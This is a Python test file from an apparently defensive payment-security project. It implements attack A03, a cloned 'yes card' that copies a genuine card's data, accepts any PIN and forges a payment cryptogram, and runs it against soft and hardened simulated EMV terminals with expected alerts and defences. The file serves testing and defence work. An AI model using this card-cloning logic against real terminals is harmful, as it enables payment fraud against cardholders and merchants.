# SPDX-FileCopyrightText: 2026 The Tillguard authors
# SPDX-License-Identifier: Apache-2.0
"""A03: a card that holds another card's signed data, or borrows its signature, approves its own payment."""

from protocols.emv import tlv
from tests.attacks.contact_lane import Chip, ContactLane, contact_lane
from tests.attacks.harness import Attack, Case
from tests.attacks.soft.emv import STATIC_IS_ENOUGH

GENERATE_AC, VERIFY = 0xAE, 0x20
TC = 0x40


class YesCard:
    """Everything that can be read of a genuine card, and a yes to the rest."""

    def __init__(self, genuine: Chip, *, insists: bool = True) -> None:
        self._genuine = genuine
        self._insists = insists

    def apdu(self, command: bytes) -> bytes:
        """A right PIN always; a cryptogram without a key, of the kind that pays."""
        if command[1] == VERIFY:
            return b"\x90\x00"
        if command[1] != GENERATE_AC:
            return self._genuine.apdu(command)
        kind = TC if self._insists else command[2] & 0xC0
        made = (
            (0x9F27, bytes((kind,))),
            (0x9F36, b"\x00\x01"),
            (0x9F26, b"\x5a" * 8),
            (0x9F10, bytes.fromhex("06010A03940000")),
        )
        return tlv.encode([tlv.template(0x77, *made)]) + b"\x90\x00"


async def approve_itself(target: ContactLane) -> bool:
    """Pay with the clone, without the PIN and without the issuer."""
    return target.pay(YesCard(target.card()), "0000")


async def guess_a_cryptogram(target: ContactLane) -> bool:
    """The same, and where the issuer is asked, with a cryptogram of no key."""
    return target.pay(YesCard(target.card(), insists=False), "0000")


ATTACK = Attack(
    id="A03",
    title="Card that approves itself",
    reference="Ferradi, Géraud, Naccache, Tria 2015: When organized crime applies academic results",
    attacker="has read a genuine card, or has it in the same plastic; its own chip answers VERIFY and GENERATE AC",
    soft="a terminal that approves offline whoever has the issuer's signature over data, or a genuine card's answer to "
    "a challenge",
    defence="offline only with CDA, which signs the cryptogram itself; everything else goes online, where a cryptogram "
    "without the card's key is none",
    cases=(
        Case(
            "a copy of static data",
            soft=contact_lane(STATIC_IS_ENOUGH, card="test-visa-sda", capabilities="E0D8C8", online_pin=False),
            hardened=contact_lane(card="test-visa-sda"),
            strike=approve_itself,
            alert="card.cryptogram-type",
            told="head office, in the payment's alerts",
        ),
        Case(
            "a copy that lets the issuer be asked",
            soft=contact_lane(STATIC_IS_ENOUGH, card="test-visa-sda", capabilities="E0D8C8", online_pin=False),
            hardened=contact_lane(card="test-visa-sda"),
            strike=guess_a_cryptogram,
            alert="the cryptogram is not the card's",
            told="the issuer, as the reason of its decision",
        ),
        Case(
            "two chips in one card",
            soft=contact_lane(STATIC_IS_ENOUGH, card="test-visa-cda"),
            hardened=contact_lane(card="test-visa-cda"),
            strike=approve_itself,
            alert="card.authentication-failed",
            told="head office, in the payment's alerts",
        ),
    ),
)
